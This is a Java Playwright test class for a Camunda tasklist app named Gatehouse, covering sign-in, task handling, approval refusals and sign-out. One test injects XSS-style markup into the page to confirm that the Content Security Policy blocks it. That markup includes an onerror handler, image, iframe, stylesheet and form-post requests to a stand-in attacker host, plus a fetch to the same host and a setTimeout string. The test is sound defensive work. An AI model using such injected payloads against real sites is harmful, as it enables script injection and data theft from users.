package io.gatehouse.access;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.assertions.PlaywrightAssertions;
import com.microsoft.playwright.options.AriaRole;
import io.gatehouse.browser.Chromium;
import io.gatehouse.browser.NeedsChromium;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.regex.Pattern;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.TaskService;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

@GatehouseInTheLab
@NeedsChromium
class TasklistBrowserTest {

  private static Chromium chromium;

  @LocalServerPort private int port;
  @Autowired private RuntimeService runtime;
  @Autowired private TaskService tasks;

  private final List<String> violations = new CopyOnWriteArrayList<>();

  @BeforeAll
  static void start() {
    chromium = Chromium.start();
    // The first page compiles and reads much that later ones find ready.
    PlaywrightAssertions.setDefaultAssertionTimeout(20_000);
  }

  @AfterAll
  static void stop() {
    chromium.close();
  }

  private Page signedIn(String userId, String place) {
    Page page = chromium.window(1400, 900);
    page.onConsoleMessage(
        message -> {
          if (message.text().contains("Content Security Policy")) {
            violations.add(message.text());
          }
        });
    page.navigate("http://localhost:" + port + place);
    Chromium.shoot(page, "access-sign-in");
    page.getByLabel("Name").fill(userId);
    page.getByLabel("Password").fill(userId + "-lab");
    page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Sign in")).click();
    return page;
  }

  @Test
  void shouldLetAnAnalystWorkInTasklist() {
    String instance = runtime.startProcessInstanceByKey("compromised-account-response").getId();
    String task = tasks.createTaskQuery().processInstanceId(instance).singleResult().getId();
    Page page = signedIn("asta", "/camunda/app/tasklist/default/");

    assertThat(page.locator(".brand-name")).containsText("Gatehouse");
    for (String filter : List.of("My tasks", "My team's tasks", "Overdue")) {
      assertThat(page.locator(".task-filters").getByText(filter)).isVisible();
    }
    assertThat(page.locator(".task-filters").getByText("Approvals")).hasCount(0);
    assertThat(page.locator(".ce-eol-banner").first()).isHidden();
    page.locator(".task-filters").getByText("My team's tasks").click();
    assertThat(page.locator(".tasks-list").getByText("GH-2026-0001").first()).isVisible();
    assertThat(page.locator(".tasks-list").getByText("Kim Berg").first()).isVisible();
    Chromium.shoot(page, "access-team");

    page.navigate("http://localhost:" + port + "/camunda/app/tasklist/default/#/?task=" + task);
    page.getByText("Claim", new Page.GetByTextOptions().setExact(true)).click();
    Locator form = page.locator(".fjs-container");
    form.getByLabel("Compromised", new Locator.GetByLabelOptions().setExact(true)).check();
    form.getByLabel("Forward all").check();
    form.getByLabel("I have read the evidence").check();
    Chromium.shoot(page, "access-form");
    page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Complete")).click();

    assertThat(page.getByText("Select a task in the list")).isVisible();
    assertThat(runtime.getActiveActivityIds(instance)).containsExactly("Decide");
    assertThat(runtime.getVariable(instance, "verdict")).isEqualTo("compromised");
    assertThat(runtime.getVariable(instance, "chosenRules").toString()).isEqualTo("[\"rule-1\"]");
    assertThat(violations).isEmpty();
  }

  @Test
  void shouldSayInWordsWhyAGateRefuses() {
    String instance = runtime.startProcessInstanceByKey("compromised-account-response").getId();
    String review = tasks.createTaskQuery().processInstanceId(instance).singleResult().getId();
    tasks.complete(review);
    String decide = tasks.createTaskQuery().processInstanceId(instance).singleResult().getId();
    Page page = signedIn("nils", "/camunda/app/tasklist/default/");
    assertThat(page.locator(".task-filters").getByText("Approvals")).isVisible();

    page.navigate("http://localhost:" + port + "/camunda/app/tasklist/default/#/?task=" + decide);
    page.getByText("Claim", new Page.GetByTextOptions().setExact(true)).click();

    assertThat(page.locator(".page-notifications"))
        .containsText(Pattern.compile("somebody else must decide"));
    Chromium.shoot(page, "access-refused");
  }

  @Test
  void shouldSayWhyALinkOpensNothing() {
    String instance = runtime.startProcessInstanceByKey("compromised-account-response").getId();
    String review = tasks.createTaskQuery().processInstanceId(instance).singleResult().getId();
    tasks.complete(review);
    String decide = tasks.createTaskQuery().processInstanceId(instance).singleResult().getId();
    String link = "http://localhost:" + port + "/camunda/app/tasklist/default/#/?task=";
    Page page = signedIn("asta", "/camunda/app/tasklist/default/");
    assertThat(page.locator(".task-filters").getByText("My tasks")).isVisible();

    page.navigate(link + decide);

    assertThat(page.locator(".page-notifications")).containsText("You can’t open this task");
    assertThat(page.locator(".page-notifications")).containsText("This task is for Approvers");
    Chromium.shoot(page, "not-yours");

    page.navigate(link + review);

    assertThat(page.locator(".page-notifications")).containsText("This task was completed");
  }

  /** What an attacker would try whose markup had got past Angular's sanitising. */
  @Test
  void shouldStopWhatMarkupThatGotThroughWouldDo() {
    Page page = signedIn("asta", "/camunda/app/tasklist/default/");
    assertThat(page.locator(".task-filters").getByText("My tasks")).isVisible();
    violations.clear();

    page.evaluate(
        """
        () => {
          window.stopped = [];
          document.addEventListener('securitypolicyviolation',
              violation => window.stopped.push(violation.effectiveDirective));
          const brought = document.createElement('div');
          brought.innerHTML = `
              <img src="data:," onerror="window.ran = 'handler'">
              <img src="http://attacker.test/pixel.png">
              <iframe src="http://attacker.test/"></iframe>
              <link rel="stylesheet" href="http://attacker.test/steal.css">
              <form id="lure" action="http://attacker.test/" method="post"></form>`;
          document.body.appendChild(brought);
          setTimeout("window.ran = 'text as code'", 0);
          fetch('http://attacker.test/').catch(() => {});
          document.getElementById('lure').submit();
        }
        """);
    page.waitForFunction("() => new Set(window.stopped).size >= 7");

    assertEquals(
        Set.of(
            "script-src-attr",
            "script-src",
            "img-src",
            "frame-src",
            "style-src-elem",
            "connect-src",
            "form-action"),
        new HashSet<>((List<?>) page.evaluate("() => window.stopped")));
    assertNull(page.evaluate("() => window.ran"));
  }

  @Test
  void shouldLetAnAnalystReportAnAccount() {
    Page page = signedIn("asta", "/camunda/app/tasklist/default/");
    page.getByText("Start process").click();
    page.getByRole(
            AriaRole.LINK, new Page.GetByRoleOptions().setName("Report a compromised account"))
        .click();
    page.getByLabel("Account").fill("kim@example.org");
    page.getByLabel("Reason").fill("Odd sign-in from abroad");
    Chromium.shoot(page, "access-start");
    page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Start").setExact(true))
        .click();

    assertThat(page.locator(".page-notifications")).containsText("has been started");
    assertThat(violations).isEmpty();
  }

  @Test
  void shouldShowTheAdministratorCockpitAndAdmin() {
    Page page = signedIn("root", "/");

    assertThat(page.locator(".brand-name")).containsText("Gatehouse");
    assertThat(
            page.locator("a[href*='processes']")
                .getByText("1", new Locator.GetByTextOptions().setExact(true)))
        .isVisible();
    Chromium.shoot(page, "access-cockpit");
    page.navigate("http://localhost:" + port + "/camunda/app/admin/default/#/users");
    assertThat(page.getByText("Mona Feld").first()).isVisible();
    assertThat(page.locator(".ce-eol-banner").first()).isHidden();
    Chromium.shoot(page, "access-admin");
    assertThat(violations).isEmpty();
  }

  @Test
  void shouldComeBackToTheSignInPageAfterSigningOut() {
    Page page = signedIn("asta", "/camunda/app/tasklist/default/");
    page.getByRole(AriaRole.LINK, new Page.GetByRoleOptions().setName("Asta Lind")).click();
    page.getByText("Log out").click();

    page.waitForURL("**/login?signed-out");
    assertThat(page.getByLabel("Password")).isVisible();
  }
}
